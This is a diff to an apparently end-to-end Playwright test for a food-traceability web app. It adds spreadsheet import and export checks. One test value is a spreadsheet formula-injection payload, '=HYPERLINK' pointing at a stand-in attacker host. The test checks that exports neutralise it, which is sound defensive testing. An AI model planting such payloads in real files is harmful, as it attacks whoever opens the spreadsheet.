@@ -7,7 +7,9 @@ Debian's Chromium), on a running network, in a phone-sized viewport:
 enrolment link -> first device (admin) -> a Casciotta product and lot ->
 events -> a second device paired and approved (record right only) -> it
 records -> split -> the consumer page shows the events
--> the second device revoked -> its next submission refused -> the same
+-> spreadsheets: a file with bad rows refused row by row before anything is
+signed, an XLSX of lots and a CSV of events imported, the exports read back
+with a hostile note neutralised -> the second device revoked -> its next submission refused -> the same
 screens in English. A screenshot of each step goes to OUT_DIR. With AXE_JS
 (axe-core's axe.min.js), axe checks each screen against the WCAG 2.0/2.1 A
 and AA rules and any serious or critical violation fails the run. Prints one
@@ -15,12 +17,16 @@ JSON line: the steps passed, the time from tapping "sign and send" to the
 answer of each submission (ms), and axe's findings per screen. Exits non-zero
 at the first failed check.
 """
+import io
 import json
 import re
 import subprocess
 import shutil
 import sys
 import time
+import zipfile
+
+import openpyxl
 
 from playwright.sync_api import expect, sync_playwright
 
@@ -64,7 +70,10 @@ def shot(page, name):
 
 TITLES = {"#/record": ["Registra un evento", "Record an event"], "#/split": ["Dividi un lotto"],
           "#/devices": ["Dispositivi"], "#/queue": ["Invii", "Submissions"], "#/lot": ["Nuovo lotto"],
-          "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"]}
+          "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"], "#/sheets": ["Fogli di calcolo"]}
+# A receiver's note written to attack whoever opens the export in a spreadsheet.
+HOSTILE_NOTE = '=HYPERLINK("https://evil.example/?x","ok")'
+sheet_checks = {}
 
 
 def go(page, route):
@@ -95,6 +104,99 @@ def send(page, expect_text):
     expect(notice).to_contain_text(expect_text, timeout=TIMEOUT_MS)
     timings.append(round((time.monotonic() - started) * 1000))
     return notice.inner_text()
+
+
+def upload(page, name, data, mime):
+    page.set_input_files("#file", files=[{"name": name, "mimeType": mime, "buffer": data}])
+    page.locator("#f button[type=submit]").click()
+
+
+def downloaded(page, selector):
+    try:
+        with page.expect_download() as info:
+            page.click(selector)
+    except Exception as e:
+        raise AssertionError(f"no download from {selector}; the app said: {page.locator('#notice').inner_text()!r}") from e
+    return open(info.value.path(), "rb").read()
+
+
+def spreadsheets(a):
+    """Template, a file with bad rows (refused before anything is signed),
+    an XLSX of lots and a CSV of events signed and sent in batches, and the
+    exports with a hostile note neutralised."""
+    go(a, "#/sheets")
+    shot(a, "sheets")
+    template = downloaded(a, "#tpl-csv")
+    assert template == "\ufeffgtin;lot;quantity;site\n".encode(), template
+
+    bad = ("prodotto;lotto;quantità\n"
+           f"{GTIN};CU-XLS-01;10\n"
+           f"{GTIN[:13]}{(int(GTIN[13]) + 1) % 10};CU-XLS-02;10\n"  # wrong check digit
+           f"{GTIN};{LOT};5\n"              # exists already
+           f"{GTIN};CU-XLS-01;3\n"          # twice in the file
+           f"{GTIN};CU XLS;0\n")            # bad lot, bad quantity
+    upload(a, "lotti.csv", bad.encode(), "text/csv")
+    rows = a.locator("#bad-rows li")
+    try:
+        expect(rows).to_have_count(4)
+    except AssertionError as e:
+        raise AssertionError(f"dry run: {a.locator('main').inner_text()!r}; notice {a.locator('#notice').inner_text()!r}") from e
+    expect(rows.nth(0)).to_contain_text("Riga 3")
+    expect(rows.nth(0)).to_contain_text("GTIN non valido")
+    expect(rows.nth(1)).to_contain_text("il lotto esiste già")
+    expect(rows.nth(2)).to_contain_text("lotto ripetuto nel file")
+    expect(rows.nth(3)).to_contain_text("quantità non valida")
+    expect(a.locator("#report")).to_contain_text("Nulla è stato firmato")
+    assert a.locator("#send").count() == 0, "a file with bad rows offers no signing"
+    shot(a, "sheet-bad-rows")
+    status = a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-01").status
+    assert status == 404, f"the good row of a refused file was not sent ({status})"
+
+    # XLSX as a spreadsheet program writes it: the GTIN typed as a number
+    # (its leading zero lost), quantities as numbers.
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["GTIN", "Lotto", "Quantità"])
+    for i in range(1, 4):
+        sheet.append([int(GTIN), f"CU-XLS-0{i}", 10 * i])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    upload(a, "lotti.xlsx", buffer.getvalue(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+    expect(a.locator("#report h3")).to_have_text("Tutte le 3 righe sono corrette.")
+    started = time.monotonic()
+    a.locator("#send button").click()
+    expect(a.locator("#notice")).to_have_text("Importazione: 3 registrate, 0 rifiutate (vedi «Invii»).", timeout=TIMEOUT_MS)
+    sheet_checks["xlsx_3_lots_ms"] = round((time.monotonic() - started) * 1000)
+    expect(a.locator("#progress-text")).to_contain_text("3 di 3")
+    shot(a, "sheet-imported")
+
+    go(a, "#/")
+    go(a, "#/sheets")
+    a.select_option("#kind", "events")
+    quoted = '"' + HOSTILE_NOTE.replace('"', '""') + '"'
+    events = ("gtin;lotto;evento;nota\n"
+              f"{GTIN};CU-XLS-01;stoccaggio;{quoted}\n"
+              f"{GTIN};CU-XLS-02;ispezione;\n")
+    upload(a, "eventi.csv", events.encode("cp1252"), "text/csv")
+    expect(a.locator("#report h3")).to_have_text("Tutte le 2 righe sono corrette.")
+    a.locator("#send button").click()
+    expect(a.locator("#notice")).to_have_text("Importazione: 2 registrate, 0 rifiutate (vedi «Invii»).", timeout=TIMEOUT_MS)
+
+    # The exports: the hostile note is text, in CSV and in XLSX.
+    exported = downloaded(a, "[data-export=csv_events]").decode("utf-8-sig")
+    note_rows = [line for line in exported.splitlines() if "evil.example" in line]
+    assert len(note_rows) == 1, exported
+    assert ";\"'=HYPERLINK(" in note_rows[0], f"not neutralised: {note_rows[0]}"
+    workbook = downloaded(a, "[data-export=xlsx]")
+    with zipfile.ZipFile(io.BytesIO(workbook)) as z:
+        assert not any("<f>" in z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")), "a formula cell"
+    book = openpyxl.load_workbook(io.BytesIO(workbook))
+    notes = [row[8] for row in book["events"].iter_rows(min_row=2, values_only=True)]
+    assert HOSTILE_NOTE in notes, notes
+    lots_sheet = [row[1] for row in book["lots"].iter_rows(min_row=2, values_only=True)]
+    assert {"CU-XLS-01", "CU-XLS-02", "CU-XLS-03", LOT} <= set(lots_sheet), lots_sheet
+    sheet_checks["export_events_rows"] = len(exported.splitlines()) - 1
+    shot(a, "sheet-exported")
 
 
 def main():
@@ -227,6 +329,9 @@ def main():
         assert codes == want, f"zbarimg read {codes}, expected {want} ({read.stderr})"
         labels_read.extend(codes)
 
+        # 6c. Spreadsheets: import with a dry run, export neutralised.
+        spreadsheets(a)
+
         # 7. The consumer page of the lot shows what was recorded.
         a.goto(f"{API}/01/{GTIN}/10/{LOT}")
         expect(a.locator("body")).to_contain_text("Casciotta d'Urbino DOP")
@@ -262,7 +367,7 @@ def main():
 
         assert not errors, f"script errors in the page: {errors}"
         browser.close()
-    print(json.dumps({"steps": steps, "submit_to_final_ms": timings, "labels_read": labels_read,
+    print(json.dumps({"steps": steps, "submit_to_final_ms": timings, "labels_read": labels_read, "sheets": sheet_checks,
                       "axe": axe_findings if AXE else "not run"}))
 
 
